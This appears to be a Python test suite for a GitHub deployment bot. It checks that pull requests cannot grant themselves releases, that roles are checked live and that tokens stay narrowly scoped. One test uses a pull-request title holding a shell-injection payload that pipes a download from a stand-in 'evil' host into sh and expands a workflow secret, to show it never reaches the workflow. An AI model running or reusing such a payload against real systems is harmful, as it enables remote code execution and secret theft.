"""Who decides: the default branch and GitHub's roles of that moment. Nothing that a pull request brings along."""

from dataclasses import replace
from pathlib import Path

from ghapp.adapters.github.permissions import levels
from tests.scenarios.scene import SMALL_CONFIG, Scene, scene
from tests.scenarios.test_trouble import merged

LAX = "environments: {production: {workflow: other.yml, deployers: [read], require: {checks: none, merged: false}}}\n"


async def test_a_pull_request_cannot_grant_itself_a_release(shop: Scene) -> None:
    """Its own config would let its author in, and release it unmerged: it is not read."""
    shop.shop.people["ken"] = "read"
    pull = await shop.opens("ken", files={".github/ghapp.yml": LAX})
    await shop.says("ken", "/deploy", on=pull)
    assert shop.codes(pull) == ["not_allowed"]
    await shop.says("mona", "/deploy production", on=pull)
    assert shop.codes(pull) == ["not_allowed", "not_merged"]
    assert shop.runs() == []


async def test_a_side_branch_with_a_config_of_its_own_changes_nothing(shop: Scene) -> None:
    """A pull request merged there is none of production's, whatever that branch says."""
    shop.shop.git.branches["side"] = shop.shop.head
    pull = await shop.opens("mona", files={".github/ghapp.yml": LAX}, base="side")
    await shop.merges("mona", pull)
    await shop.says("mona", "/deploy production", on=pull)
    assert shop.codes(pull) == ["other_branch"]
    assert shop.runs() == []


async def test_a_member_of_the_organisation_is_nobody_without_a_role(shop: Scene) -> None:
    """What GitHub calls the author of a comment says nothing of what they may do here."""
    pull = await merged(shop)
    shop.shop.people["ken"] = "triage"
    await shop.says("ken", "/deploy", on=pull)
    assert shop.codes(pull) == ["not_allowed"]


async def test_who_lost_the_right_a_second_ago_has_lost_it(shop: Scene) -> None:
    """It is asked of GitHub each time, and kept for nobody."""
    first = await shop.released("taro")
    await shop.says("taro", "/unlock", on=first)
    second = await merged(shop, "taro")
    shop.shop.people["taro"] = "read"
    await shop.says("taro", "/deploy", on=second)
    assert shop.codes(second)[-1] == "not_allowed"
    assert len(shop.runs()) == 1


async def test_what_people_wrote_never_reaches_the_workflow(shop: Scene) -> None:
    """Titles, names of branches and reasons are text: the inputs are a commit, a name from the config, and a number."""
    title = '"; curl evil | sh #`$(id)`${{ secrets.X }}'
    pull = await shop.opens("taro", title)
    await shop.merges("taro", pull)
    await shop.says("taro", "/deploy production", on=pull)
    (run,) = shop.runs()
    assert set(run.inputs) == {"sha", "environment", "ghapp"}
    assert (run.inputs["sha"], run.inputs["environment"]) == (pull.merge_commit_sha, "production")
    assert "evil" not in run.display_title


async def test_a_broken_config_starts_nothing_and_keeps_nobody_locked_out(shop: Scene) -> None:
    """`/deploy` is refused with line and reason; what is held under the last valid one can still be ended."""
    first = await shop.released("taro")
    second = await merged(shop, "mona")
    broken = SMALL_CONFIG.replace("workflow", "workfow")
    await shop.shop.commit(".github/ghapp.yml", broken, by="mona", message="Break it")
    await shop.idle()
    await shop.says("mona", "/deploy", on=second)
    assert shop.codes(second)[-1] == "config_invalid"
    await shop.says("taro", "/unlock", on=first)
    assert shop.codes(first)[-1] == "unlocked"
    assert len(shop.runs()) == 1


async def test_anothers_lock_is_ended_by_an_unlocker_with_a_reason_only(shop: Scene) -> None:
    """And its holder hears of it."""
    config = SMALL_CONFIG.replace("deploy.yml", "deploy.yml, unlockers: [mona]")
    await shop.shop.commit(".github/ghapp.yml", config, by="mona", message="Name the unlocker")
    pull = await merged(shop)
    await shop.says("taro", "/lock production 1h migrating", on=pull)
    await shop.says("hanako", "/unlock production let me", on=pull)
    await shop.says("mona", "/unlock production", on=pull)
    assert shop.codes(pull)[-2:] == ["not_allowed", "reason_needed"]
    await shop.says("mona", "/unlock production the migration is done", on=pull)
    told = next(text for text in shop.replies(pull) if "the migration is done" in text)
    assert "@taro" in told


async def test_a_permission_that_nobody_has_accepted_yet_stops_nothing_else(tmp_path: Path) -> None:
    """A new version asks for more: until the owner accepts it, what was granted goes on working."""
    async with scene(tmp_path) as shop:
        before = {name: level for name, level in shop.github.app.permissions.items() if name != "deployments"}
        shop.github.app = replace(shop.github.app, permissions=before | {"actions": "write", "contents": "write"})
        await shop.restart()
        pull = await shop.released("taro")
        assert any(text.startswith("✅") for text in shop.replies(pull))
        assert shop.shop.deployments == {}
        narrow = [one.request["permissions"] for one in shop.calls("POST", "/access_tokens") if one.status == 201]
        assert narrow[-1] == {name: level for name, level in levels("repository").items() if name != "deployments"}
